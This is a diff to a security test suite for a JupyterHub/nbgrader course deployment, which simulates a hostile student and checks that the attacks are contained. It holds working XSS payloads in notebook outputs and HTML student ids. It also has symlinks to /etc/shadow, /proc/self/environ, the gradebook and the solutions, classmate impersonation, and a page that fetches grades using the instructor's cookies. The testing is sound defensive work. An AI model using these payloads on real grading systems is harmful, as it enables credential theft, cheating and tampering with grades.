@@ -168,8 +168,29 @@ print("HOSTILE-REPORT " + json.dumps(report))
 '''
 
 
+#: Where the pages' scripts would send what they found; Chromium's requests to it are caught, never sent.
+BEACON = "http://127.0.0.1:9/beacon"
+
+#: A code cell whose outputs, made while it is graded, carry the output vectors (image width metadata, HTML,
+#: JavaScript, SVG and Markdown outputs).
+OUTPUT_VECTORS = r"""
+from IPython.display import publish_display_data
+def run(name):
+    return f"window.__pwned.push('{name}')"
+publish_display_data({"image/png": PNG, "text/plain": "figure"},
+                     metadata={"image/png": {"width": "1 onload=" + run("image-width-metadata")}})
+publish_display_data({"text/html": '<img src="x" onerror="' + run("html-output-img") + '">'
+                                   '<a href="javascript:' + run("html-output-link") + '">a</a>'})
+publish_display_data({"application/javascript": run("javascript-output")})
+publish_display_data({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>' + run("svg-output")
+                                       + "</script></svg>"})
+publish_display_data({"text/markdown": "[md output](javascript:" + run("markdown-output-link") + ")"})
+"""
+
+
 def hostile(student_nb, hub):
-    """Every answer cell replaced: the first one attacks, the others are left empty."""
+    """Every answer cell replaced: the first one attacks, the others are left empty. Then the cells that attack the
+    grader's browser: markdown with script, links and fetches, and a cell whose outputs do the same."""
     known = {"COURSE": str(hub.course), "EXERCISE": EXERCISE, "TAG": hub.tag,
              "INBOUND": str(hub.exchange / hu.COURSE_ID / "inbound")}
     code = "".join(f"{name} = {value!r}\n" for name, value in known.items()) + HOSTILE
@@ -178,7 +199,92 @@ def hostile(student_nb, hub):
         if cell["cell_type"] == "code" and cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
             cell["source"] = code if first else "pass"
             first = False
+    browser_cells = [cell for cell in hu.hostile_cells(BEACON) if cell["cell_type"] == "markdown"]
+    browser_cells.append(nbformat.v4.new_code_cell(f"PNG = {hu.PNG!r}\n" + OUTPUT_VECTORS))
+    for cell in browser_cells:
+        cell["id"] = f"attack-{len(student_nb['cells'])}"
+        student_nb["cells"].append(cell)
     return student_nb
+
+
+# ---- attacks on the exchange, from the attacker's own kernel (as their terminal would) ------------------------
+
+#: Before the first release: squat the course's exchange folder and make a fake course.
+SQUAT = r"""
+import json, os
+report = {}
+for name, path in {"the course's exchange folder": os.path.join(ROOT, COURSE_ID, "inbound"),
+                   "a fake course": os.path.join(ROOT, "fake-course-" + TAG, "outbound", "ex99")}.items():
+    try:
+        os.makedirs(path)
+        report[name] = "created"
+    except OSError as error:
+        report[name] = type(error).__name__
+print(json.dumps(report))
+"""
+
+#: After every student has submitted, before Collect: the attacker's hand-made inbound folders.
+EXCHANGE_ATTACKS = r"""
+import json, os, shutil, stat, secrets
+report = {}
+def attempt(name, action):
+    try:
+        report[name] = "done: " + str(action())[:200]
+    except Exception as error:
+        report[name] = "refused: " + type(error).__name__ + ": " + str(error)[:120]
+def folder(owner_name, stamp="2099-01-01 00:00:00.000000 UTC"):
+    path = os.path.join(INBOUND, f"{owner_name}+{EXERCISE}+{stamp}+{secrets.token_hex(4)}")
+    os.mkdir(path)
+    os.chmod(path, 0o770)
+    return path
+def blank_copy(path):
+    shutil.copyfile(RELEASED, os.path.join(path, EXERCISE + ".ipynb"))
+    return path
+# Links in a submission of one's own: the environment, the solutions, the gradebook, ~/.jupyter, the runtime folder.
+def links():
+    path = folder(ME, "2098-01-01 00:00:00.000000 UTC")
+    for name, target in LINK_TARGETS.items():
+        os.symlink(target, os.path.join(path, name))
+    return sorted(os.listdir(path))
+attempt("links in a submission", links)
+# A submission folder that is itself a link to the instructor's solutions.
+attempt("a linked submission folder", lambda: os.symlink(SOLUTIONS_DIR, os.path.join(
+    INBOUND, f"{ME}+{EXERCISE}+2097-01-01 00:00:00.000000 UTC+{secrets.token_hex(4)}")))
+# submit --student=<classmate>, dated 2099: a blank notebook under the classmate's name.
+attempt("submit as a classmate, dated 2099", lambda: os.path.basename(blank_copy(folder(VICTIM))))
+# A made-up student whose notebook links to the source notebook; an HTML student id.
+def ghost():
+    path = folder("ghost" + TAG[-3:])
+    os.symlink(SOURCE, os.path.join(path, EXERCISE + ".ipynb"))
+    return os.path.basename(path)
+attempt("a made-up student", ghost)
+attempt("an HTML student id", lambda: os.path.basename(blank_copy(folder("<img src=x onerror=alert(1)>"))))
+# Rename a classmate's folder (its name known) to one's own id, and to another classmate's.
+attempt("rename a classmate's submission", lambda: os.rename(
+    os.path.join(INBOUND, RENAME_VICTIM_FOLDER), os.path.join(INBOUND, RENAME_VICTIM_FOLDER.replace(RENAME_VICTIM, ME))))
+# Denial: a FIFO, an unreadable folder, a link to an unreadable file, a hard link to a file not one's own, and a
+# whole submission folder closed to the instructor.
+def denial():  # in the attacker's own real submission, which is still collected and graded
+    path = os.path.join(INBOUND, OWN_FOLDER)
+    os.mkfifo(os.path.join(path, "fifo.ipynb"))
+    os.mkdir(os.path.join(path, "closed"))
+    open(os.path.join(path, "closed", "x.ipynb"), "w").write("{}")
+    os.chmod(os.path.join(path, "closed"), 0)
+    os.symlink("/etc/shadow", os.path.join(path, "shadow.ipynb"))
+    try:
+        os.link(OUTBOUND_NB, os.path.join(path, "hardlink.ipynb"))  # the instructor's file, readable by all
+        made = "hard link made"
+    except OSError as error:
+        made = "hard link refused by the kernel: " + type(error).__name__
+    return made
+attempt("a FIFO, a closed folder and links", denial)
+def closed_submission():
+    path = blank_copy(folder(ME, "2095-01-01 00:00:00.000000 UTC"))
+    os.chmod(path, 0)
+    return os.path.basename(path)
+attempt("a submission closed to the instructor", closed_submission)
+print(json.dumps(report))
+"""
 
 
 # ---- the class ----------------------------------------------------------------------------------------------
@@ -194,6 +300,9 @@ def lesson(hub):
     def step(name, started):
         out["steps"][name] = round(time.monotonic() - started, 2)
 
+    attacker_kernel = hub.sessions[attacker].kernel()
+    known = {"ROOT": str(hub.exchange), "COURSE_ID": hu.COURSE_ID, "TAG": hub.tag}
+    out["squat"] = attacker_kernel.run_json("".join(f"{k} = {v!r}\n" for k, v in known.items()) + SQUAT)
     kernel = instructor.kernel()
     try:
         started = time.monotonic()
@@ -227,12 +336,36 @@ def lesson(hub):
             assert submitted.get("success"), f"{student}'s submit failed: {submitted}"
             assert any(a["status"] == "submitted" for a in submitted["value"]), submitted
             step(f"student {student}: list, fetch, fill in, submit", started)
-        out["submitted"] = {p.name.split("+")[0]: p.name for p in
-                            (hub.exchange / hu.COURSE_ID / "inbound").iterdir()}
+        inbound = hub.exchange / hu.COURSE_ID / "inbound"
+        out["submitted"] = {p.name.split("+")[0]: p.name for p in inbound.iterdir()}
+        out["inbound before"] = {p.name: (p.stat().st_uid, sha256(p / f"{EXERCISE}.ipynb")) for p in inbound.iterdir()}
+
+        course, instructor_home = hub.course, hub.home(hub.instructor)
+        known = {
+            "INBOUND": str(inbound), "EXERCISE": EXERCISE, "ME": attacker, "VICTIM": solver, "TAG": hub.tag,
+            "RELEASED": str(hub.home(attacker) / EXERCISE / f"{EXERCISE}.ipynb"),
+            "OUTBOUND_NB": str(hub.exchange / hu.COURSE_ID / "outbound" / EXERCISE / f"{EXERCISE}.ipynb"),
+            "SOURCE": str(course / "solutions" / EXERCISE / f"{EXERCISE}.ipynb"),
+            "SOLUTIONS_DIR": str(course / "solutions" / EXERCISE),
+            "RENAME_VICTIM": blank, "RENAME_VICTIM_FOLDER": out["submitted"][blank],
+            "OWN_FOLDER": out["submitted"][attacker],
+            "LINK_TARGETS": {
+                f"{EXERCISE}.ipynb": str(course / "solutions" / EXERCISE / f"{EXERCISE}.ipynb"),
+                "environ.txt": "/proc/self/environ",
+                "solutions": str(course / "solutions"),
+                "gradebook.db": str(course / "gradebook.db"),
+                "dot-jupyter": str(instructor_home / ".jupyter"),
+                "runtime": str(instructor_home / ".local" / "share" / "jupyter" / "runtime"),
+            },
+        }
+        out["exchange attacks"] = attacker_kernel.run_json(
+            "".join(f"{k} = {v!r}\n" for k, v in known.items()) + EXCHANGE_ATTACKS)
 
         started = time.monotonic()
         collected = instructor.ok("POST", instructor.server(f"/formgrader/api/assignment/{EXERCISE}/collect"))
+        out["collect log"] = collected.get("log", "")
         assert collected.get("success"), f"Formgrader's Collect failed: {collected}"
+        out["collect problems"] = json.loads((hub.course / "grades" / "collect_problems.json").read_text())
         assert sorted(p.name for p in (hub.course / "submitted").iterdir()) == sorted(class_)
         step("instructor: collect (Formgrader)", started)
 
@@ -255,8 +388,11 @@ def lesson(hub):
         assert released.get("success"), f"Formgrader's Release feedback failed: {released}"
         step("instructor: feedback, release feedback (Formgrader)", started)
         out["gradebook"] = instructor.ok("GET", instructor.server(f"/formgrader/api/submissions/{EXERCISE}"))
+        out["notebooks"] = instructor.ok("GET", instructor.server(
+            f"/formgrader/api/submitted_notebooks/{EXERCISE}/{EXERCISE}"))
     finally:
         kernel.close()
+        attacker_kernel.close()
 
     out["feedback"] = {}
     for student in class_:
@@ -448,6 +584,107 @@ def test_the_hostile_submission_is_contained(hub, lesson):
     assert "in its own sandbox" in output and "WITHOUT the sandbox" not in output, output[-1500:]
 
 
+# ---- the exchange, attacked --------------------------------------------------------------------------------------
+
+def link_secrets(hub):
+    """Bytes that only the links' targets hold: the instructor's server token, a hidden test line of the source
+    notebook, the gradebook's file header, a line of ~/.jupyter's configuration, a connection file's key, /etc/shadow."""
+    environ = Path(f"/proc/{hub.server_pid(hub.instructor)}/environ").read_bytes().split(b"\0")
+    token = next(v.split(b"=", 1)[1] for v in environ if v.startswith(b"JUPYTERHUB_API_TOKEN="))
+    return {"the instructor's server token": token, "a hidden test": next(line for line in hidden_lines(hub) if '"' not in line and "\\" not in line).encode(),
+            "the gradebook": b"SQLite format 3\0", "the instructor's ~/.jupyter": b"load_subconfig(",
+            "a kernel connection file": b'"signature_scheme"', "the shadow file": b"daemon:*:"}
+
+
+def hidden_lines(hub):
+    source = nbformat.read(hub.course / "solutions" / EXERCISE / f"{EXERCISE}.ipynb", as_version=4)
+    return [line.strip() for cell in source.cells
+            for block in re.findall(r"BEGIN HIDDEN TESTS(.*?)END HIDDEN TESTS", cell.source, re.S)
+            for line in block.splitlines() if len(line.strip()) > 20]
+
+
+def problems_about(lesson, text):
+    return [p for p in lesson["collect problems"] if text in p["source"] or text in p["detail"]]
+
+
+def test_squatting_the_exchange_fails(hub, lesson):
+    """Before the first release the attacker tries to make the course's exchange folder (release would then fail)
+    and a fake course (it would show in every classmate's Assignments tab)."""
+    assert lesson["squat"] == {"the course's exchange folder": "PermissionError", "a fake course": "PermissionError"}
+    assert sorted(p.name for p in hub.exchange.iterdir()) == [hu.COURSE_ID]
+    course = hub.exchange / hu.COURSE_ID
+    assert course.stat().st_uid == pwd.getpwnam(hub.instructor).pw_uid, "the course folder is not the instructor's"
+    mode = (course / "inbound").stat().st_mode
+    assert mode & 0o1000 and not mode & 0o004, f"inbound is not sticky or is listable: {oct(mode)}"
+
+
+def test_collect_copies_regular_files_only_and_lists_the_attacker(hub, lesson):
+    """The attacker's hand-made inbound folders: links to /proc/self/environ, the solutions, the gradebook,
+    ~/.jupyter and the runtime folder; a submission folder that is a link; a FIFO, a folder closed to the
+    instructor, a link to /etc/shadow and a hard link in their real submission; a submission closed to the
+    instructor. Collect succeeds, copies nothing of it, lists each, and collects the class."""
+    solver, blank, attacker, newcomer = hub.students
+    attacks = lesson["exchange attacks"]
+    print("\nthe attacker's exchange attacks:", json.dumps(attacks, indent=1),
+          "\ncollect's problems:", json.dumps(lesson["collect problems"], indent=1))
+    assert attacks["links in a submission"].startswith("done"), attacks  # the control: the links were made
+    submitted = hub.course / "submitted"
+    found, secrets_ = {}, link_secrets(hub)
+    for path in submitted.rglob("*"):
+        info = path.lstat()
+        assert not path.is_symlink() and (path.is_dir() or (path.is_file() and info.st_nlink == 1)), path
+        if path.is_file():
+            data = path.read_bytes()
+            found.update({f"{what} in {path.relative_to(submitted)}": True for what, mark in secrets_.items()
+                          if mark in data})
+    assert not found, f"collect copied what links point to: {sorted(found)}"
+    # The canary: each mark is really in what the links point to, so not finding it means something.
+    targets = {"the gradebook": hub.course / "gradebook.db", "the shadow file": Path("/etc/shadow"),
+               "the instructor's ~/.jupyter": hub.home(hub.instructor) / ".jupyter" / "nbgrader_config.py",
+               "a hidden test": hub.course / "solutions" / EXERCISE / f"{EXERCISE}.ipynb"}
+    assert all(secrets_[what] in path.read_bytes() for what, path in targets.items()), "a mark is not in its target"
+    kinds = {(Path(p["source"]).name, p["kind"]) for p in lesson["collect problems"]}
+    for name in ("environ.txt", "solutions", "gradebook.db", "dot-jupyter", "runtime", f"{EXERCISE}.ipynb",
+                 "shadow.ipynb"):
+        assert (name, "symbolic link") in kinds, f"the link {name} is not listed: {sorted(kinds)}"
+    assert ("fifo.ipynb", "FIFO") in kinds and ("closed", "unreadable") in kinds, sorted(kinds)
+    assert any(k == "not a folder" for _, k in kinds), "the linked submission folder is not listed"
+    closed = [p for p in lesson["collect problems"] if "2095-01-01" in p["source"]]
+    assert closed and closed[0]["kind"] == "unreadable", closed
+    if "hard link made" in attacks["a FIFO, a closed folder and links"]:
+        assert {("hardlink.ipynb", "hard link"), ("hardlink.ipynb", "not the student's")} & kinds, sorted(kinds)
+    assert all(attacker in p["source"] or attacker in p["detail"] for p in lesson["collect problems"]), \
+        "a problem is not the attacker's"
+    assert "Not collected" in lesson["collect log"], lesson["collect log"][-1500:]
+    # The attacker's real submission is still collected (and graded: see the hostile submission's test).
+    assert (submitted / attacker / EXERCISE / f"{EXERCISE}.ipynb").is_file()
+
+
+def test_identity_comes_from_the_owner_not_the_folder_name(hub, lesson):
+    """submit --student=<classmate> dated 2099, a made-up student whose notebook links to the source, an HTML id,
+    and renaming a classmate's folder: none takes anyone's place; the honest grades stand."""
+    solver, blank, attacker, newcomer = hub.students
+    attacks = lesson["exchange attacks"]
+    for attack in ("submit as a classmate, dated 2099", "a made-up student", "an HTML student id"):
+        assert attacks[attack].startswith("done"), (attack, attacks[attack])  # the control: the folder was made
+    assert attacks["rename a classmate's submission"].startswith("refused: PermissionError"), attacks
+    identity = [p for p in lesson["collect problems"] if p["kind"] == "identity"]
+    claimed = sorted(re.search(r"claims to be '(.*)'", p["detail"]).group(1) for p in identity)
+    assert claimed == sorted([solver, f"ghost{hub.tag[-3:]}", "<img src=x onerror=alert(1)>"]), identity
+    assert all(f"made by {attacker}" in p["detail"] for p in identity), identity
+    assert sorted(p.name for p in (hub.course / "submitted").iterdir()) == sorted([solver, blank, attacker])
+    # Each honest submission is the one its student handed in, timed by the server's clock (not 2099).
+    inbound = lesson["inbound before"]
+    for student in (solver, blank):
+        folder = lesson["submitted"][student]
+        collected = hub.course / "submitted" / student / EXERCISE
+        assert sha256(collected / f"{EXERCISE}.ipynb") == inbound[folder][1], f"{student}'s work was replaced"
+        year = int((collected / "timestamp.txt").read_text()[:4])
+        assert year == time.gmtime().tm_year, f"{student}'s timestamp is not the server's: {year}"
+    book = {row["student"]: row["score"] for row in lesson["gradebook"]}
+    assert book == {solver: AUTO_POINTS, blank: 0.0, attacker: 0.0}, book
+
+
 # ---- in the browser ------------------------------------------------------------------------------------------
 
 def browser_login(context, hub, user):
@@ -473,7 +710,7 @@ def test_formgrader_and_the_assignments_tab_in_the_browser(hub, lesson):
             context = browser.new_context(viewport={"width": 1280, "height": 900})
             context.set_default_timeout(60_000)
             page = browser_login(context, hub, hub.instructor)
-            page.goto(f"{hub.url}/user/{hub.instructor}/formgrader/manage_submissions/{EXERCISE}")
+            page.goto(f"{hu.user_origin(hub.url, hub.instructor)}/user/{hub.instructor}/formgrader/manage_submissions/{EXERCISE}")
             for student in (solver, blank, attacker):
                 page.get_by_text(student).first.wait_for()
             table = page.inner_text("body")
@@ -502,6 +739,99 @@ def test_formgrader_and_the_assignments_tab_in_the_browser(hub, lesson):
             browser.close()
     # A student's Nbgrader menu offers the Assignments tab, not the instructors' tools.
     assert "Assignment List" in offered and "Formgrader" not in offered and "Create" not in offered, offered
+
+
+ONE_ORIGIN_PAGE = """<!doctype html><title>notes</title><body><script>
+window.__report = {cookie: document.cookie};
+const target = TARGET;
+fetch(target + "formgrader/api/submissions/" + EXERCISE, {credentials: "include"})
+  .then(r => r.text()).then(t => window.__report.grades = t.slice(0, 300))
+  .catch(e => window.__report.grades = "blocked: " + e.name);
+fetch(target + "api/contents/course/solutions", {credentials: "include"})
+  .then(r => r.text()).then(t => window.__report.solutions = t.slice(0, 300))
+  .catch(e => window.__report.solutions = "blocked: " + e.name);
+const frame = document.createElement("iframe");
+frame.src = target + "formgrader/";
+frame.onload = () => { try { window.__report.frame = frame.contentDocument.body.innerHTML.slice(0, 300); }
+                       catch (e) { window.__report.frame = "blocked: " + e.name; } };
+document.body.appendChild(frame);
+</script></body>"""
+
+
+def test_formgrader_runs_no_student_script(hub, lesson):
+    """The instructor, logged in, opens the attacker's submission in Formgrader and clicks every link on it; then a
+    Formgrader URL whose student id is a script; then a page the attacker's own server serves, made to act with the
+    instructor's cookies (one origin for all). Nothing runs, nothing is fetched, nothing is read."""
+    executable = bu.require_chromium()
+    from playwright.sync_api import sync_playwright
+
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    solver, blank, attacker, newcomer = hub.students
+    ins_origin = hu.user_origin(hub.url, hub.instructor)
+    formgrader = f"{ins_origin}/user/{hub.instructor}/formgrader"
+    notebook_id = next(n["id"] for n in lesson["notebooks"] if n["student"] == attacker)
+    # The attacker's page, where their server serves files without a login (JupyterLab's extension folder).
+    extension = f"evil-{hub.tag}"
+    kernel = hub.sessions[attacker].kernel()
+    try:
+        page_text = ONE_ORIGIN_PAGE.replace("TARGET", json.dumps(f"{ins_origin}/user/{hub.instructor}/")).replace(
+            "EXERCISE", json.dumps(EXERCISE))
+        kernel.run_json(
+            "import json, os\n"
+            f"folder = os.path.expanduser('~/.local/share/jupyter/labextensions/{extension}/static')\n"
+            "os.makedirs(folder, exist_ok=True)\n"
+            f"open(os.path.join(folder, 'page.html'), 'w').write({page_text!r})\n"
+            "print(json.dumps(True))")
+    finally:
+        kernel.close()
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=executable, args=bu.CHROMIUM_ARGS, headless=True)
+        try:
+            context = browser.new_context(viewport={"width": 1280, "height": 900})
+            context.set_default_timeout(60_000)
+            browser_login(context, hub, hub.instructor).close()
+            # 1. The attacker's submission in Formgrader: markdown, outputs and their metadata, attachments.
+            url = f"{formgrader}/submissions/{notebook_id}/"
+            pushed, fetched, dialogs = hu.what_runs(browser, url, BEACON, context=context,
+                                                    screenshot=SCREENSHOTS / "formgrader-hostile-submission.png")
+            page = context.new_page()
+            page.goto(url)
+            shown = page.inner_text("body")
+            page.close()
+            assert "removed for safety" in shown and "HOSTILE-REPORT" in shown, "the control: not the attack's page"
+            assert not pushed and not fetched and not dialogs, (pushed, fetched, dialogs)
+            # 2. A reflected id: a link to a Formgrader page whose student id closes Formgrader's inline script.
+            reflected = f"{formgrader}/manage_students/" + quote('";window.__pwned.push("reflected");"', safe="")
+            page = context.new_page()
+            response = page.goto(reflected)
+            assert response.status == 400, response.status
+            assert page.evaluate("window.__pwned || []") == []
+            control = page.goto(f"{formgrader}/manage_students/{solver}")
+            assert control.status == 200, "the control: a plain id opens"
+            page.close()
+            # 3. One origin per user: the attacker's page, opened by the instructor.
+            page = context.new_page()
+            attack_url = (f"{hu.user_origin(hub.url, attacker)}/user/{attacker}/lab/extensions/{extension}/static/"
+                          "page.html")
+            response = page.goto(attack_url)
+            page.wait_for_timeout(4000)
+            report = page.evaluate("window.__report || null")
+            page.close()
+            context.close()
+        finally:
+            browser.close()
+    print("\nthe attacker's page, opened by the instructor:", response.status if response else None, report)
+    if report is not None:  # the page was served: it ran on the attacker's origin, with none of the instructor's
+        assert "_xsrf" not in report["cookie"] and "jupyterhub" not in report["cookie"], report
+        for what in ("grades", "solutions"):
+            leaked = report.get(what, "")
+            assert leaked.startswith("blocked") or (solver not in leaked and "BEGIN SOLUTION" not in leaked
+                                                    and EXERCISE not in leaked), (what, leaked)
+        assert not report.get("frame") or report["frame"].startswith("blocked"), report
+    book = {row["student"]: row["score"]
+            for row in hub.sessions[hub.instructor].ok("GET", hub.sessions[hub.instructor].server(
+                f"/formgrader/api/submissions/{EXERCISE}"))}
+    assert book == {solver: AUTO_POINTS, blank: 0.0, attacker: 0.0}, f"the grades changed: {book}"
 
 
 def test_the_idle_culler_stops_idle_servers_and_keeps_their_files(hub, lesson):
